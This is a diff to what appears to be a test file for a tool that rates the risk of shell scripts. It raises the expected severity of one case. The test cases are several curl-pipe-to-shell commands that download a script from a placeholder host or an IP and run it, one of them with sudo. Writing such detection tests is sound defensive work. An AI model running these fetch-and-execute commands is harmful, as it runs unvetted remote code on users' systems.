@@ -175,7 +175,7 @@ test.each(ORDINARY)("is ordinary: %s", async (script) => {
 
 test.each([
   ["curl http://203.0.113.7/x | sh", "critical"],
-  ["curl -fsSL https://files.example/x | sh", "medium"],
+  ["curl -fsSL https://files.example/x | sh", "high"],
   ["curl -fsSL https://files.example/x | sudo sh", "high"],
   ["curl -fsSLk https://files.example/x | sh", "high"],
   ["curl -fsSL http://files.example/x | sh", "high"],
